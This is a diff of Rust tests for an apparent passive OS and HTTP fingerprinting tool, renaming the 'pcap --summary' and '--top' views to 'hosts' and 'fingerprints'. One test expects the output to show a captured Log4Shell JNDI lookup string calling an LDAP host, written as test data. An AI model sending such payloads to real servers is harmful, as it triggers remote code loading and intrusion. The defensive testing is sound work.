@@ -19,10 +19,10 @@ fn fuzzy_system_says_so_in_every_view() {
     let views: [&[&str]; 7] = [
         &["pcap", "-q"],
         &["pcap", "-q", "-v"],
-        &["pcap", "-q", "--summary"],
+        &["hosts", "-q"],
         &["pcap", "-q", "--connections"],
         &["pcap", "-q", "--connections", "--format", "json"],
-        &["pcap", "-q", "--top", "9"],
+        &["fingerprints", "-q", "--top", "9"],
         &["report", "-o", "-"],
     ];
     for view in views {
@@ -34,7 +34,7 @@ fn fuzzy_system_says_so_in_every_view() {
         run(&["explain", "4:128:0:1460:mss*44,10:mss,sok,ts,nop,ws:df,id+:0"])
             .contains("newer (fuzzy), 0 hops")
     );
-    let host = run(&["pcap", "-q", "--summary", "--format", "json", &capture]);
+    let host = run(&["hosts", "-q", "--format", "json", &capture]);
     assert!(host.contains(r#""verdict":{"system":"Linux","fuzzy":true,"#), "{host}");
 }
 
@@ -46,23 +46,23 @@ fn generic_system_says_so_in_every_view() {
         &["pcap", "-q"],
         &["pcap", "-q", "--connections"],
         &["pcap", "-q", "--connections", "--format", "json"],
-        &["pcap", "-q", "--top", "9"],
+        &["fingerprints", "-q", "--top", "9"],
     ];
     for view in events {
         let text = run(&[view, &[&*capture]].concat());
         assert!(text.contains("Linux (generic)"), "{view:?}: {text}");
     }
     assert!(run(&["pcap", &capture]).contains("\nsystems     Linux (generic)"));
-    for view in [&["pcap", "-q", "--summary"][..], &["report", "-o", "-"]] {
+    for view in [&["hosts", "-q"][..], &["report", "-o", "-"]] {
         let text = run(&[view, &[&*capture]].concat());
         assert!(text.contains("Linux (fuzzy)"), "{view:?}: {text}");
     }
     let node = captures::path("http-node.pcap").display().to_string();
-    for view in [&["pcap", "-q"][..], &["pcap", "-q", "--summary"], &["report", "-o", "-"]] {
+    for view in [&["pcap", "-q"][..], &["hosts", "-q"], &["report", "-o", "-"]] {
         let text = run(&[view, &[&*node]].concat());
         assert!(text.contains("Node http (generic)"), "{view:?}: {text}");
     }
-    let host = run(&["pcap", "-q", "--summary", "--format", "json", &capture]);
+    let host = run(&["hosts", "-q", "--format", "json", &capture]);
     assert!(host.contains(r#""verdict":{"system":"Linux","fuzzy":true,"#), "{host}");
 }
 
@@ -70,7 +70,7 @@ fn generic_system_says_so_in_every_view() {
 fn implausible_distance_is_not_shown() {
     // One SYN has a TTL of 92: 36 hops below 128.
     let capture = captures::path("odd-syns.pcap").display().to_string();
-    for view in [&["pcap", "-q"][..], &["pcap", "-q", "-v"], &["pcap", "-q", "--summary"]] {
+    for view in [&["pcap", "-q"][..], &["pcap", "-q", "-v"], &["hosts", "-q"]] {
         let text = run(&[view, &[&*capture]].concat());
         let hops =
             |text: &str| text.contains("36 hops") || text.contains("126 hops") || text.contains(" 126 ");
@@ -93,12 +93,11 @@ fn text_that_contradicts_stands_beside_the_name() {
     ] {
         assert!(lines.contains(line), "{line}: {lines}");
     }
-    for view in [&["pcap", "-q", "-v"][..], &["pcap", "-q", "--summary"], &["report", "-o", "-"]] {
+    for view in [&["pcap", "-q", "-v"][..], &["hosts", "-q"], &["report", "-o", "-"]] {
         let text = run(&[view, &[&*capture]].concat());
         assert!(text.contains("curl/8.5.0 ${jndi:ldap://192.0.2.9:1389/a}"), "{view:?}: {text}");
     }
-    let hosts =
-        run(&["pcap", "-q", "--summary", &captures::path("http-imitation.pcap").display().to_string()]);
+    let hosts = run(&["hosts", "-q", &captures::path("http-imitation.pcap").display().to_string()]);
     assert!(hosts.contains("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleW..."), "{hosts}");
 }
 
@@ -106,7 +105,7 @@ fn text_that_contradicts_stands_beside_the_name() {
 fn header_of_another_product_says_so_in_every_view() {
     let capture = captures::path("http-imitation.pcap").display().to_string();
     let views: [&[&str]; 4] =
-        [&["pcap", "-q"], &["pcap", "-q", "-v"], &["pcap", "-q", "--summary"], &["report", "-o", "-"]];
+        [&["pcap", "-q"], &["pcap", "-q", "-v"], &["hosts", "-q"], &["report", "-o", "-"]];
     for view in views {
         let text = run(&[view, &[&*capture]].concat());
         assert!(text.contains("Firefox 116 or newer (dishonest)"), "{view:?}: {text}");
